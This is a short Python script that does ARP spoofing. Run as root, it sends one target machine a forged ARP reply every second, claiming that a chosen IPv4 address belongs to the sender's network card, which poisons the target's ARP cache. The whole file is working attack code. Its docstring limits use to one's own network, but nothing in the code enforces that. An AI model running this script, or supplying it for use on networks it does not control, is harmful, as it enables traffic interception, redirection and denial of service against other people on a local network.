#!/usr/bin/env python3
"""Tells one machine once a second that an address belongs to this machine's network card.

Usage, as root: lie.py <interface> <hardware address of the listener> <its address> <address to claim>
For a network of your own only: on any other, this is an attack.
"""
import argparse, ipaddress, socket, struct, time


def card(text):
    octets = bytes.fromhex(text.replace(":", ""))
    if len(octets) != 6:
        raise ValueError(text)
    return octets


def address(text):
    return ipaddress.IPv4Address(text).packed


parser = argparse.ArgumentParser()
parser.add_argument("interface")
parser.add_argument("listener", type=card)
parser.add_argument("to", type=address)
parser.add_argument("claim", type=address)
wish = parser.parse_args()
try:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((wish.interface, 0))
except (OSError, UnicodeError) as error:
    parser.error(f"cannot send on {ascii(wish.interface)}: {error}")
own = wire.getsockname()[4]
# An Ethernet frame with an ARP answer (operation 2): this card, that address, for that listener.
answer = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + wish.claim + wish.listener + wish.to
while True:
    wire.send(wish.listener + own + b"\x08\x06" + answer)
    time.sleep(1)
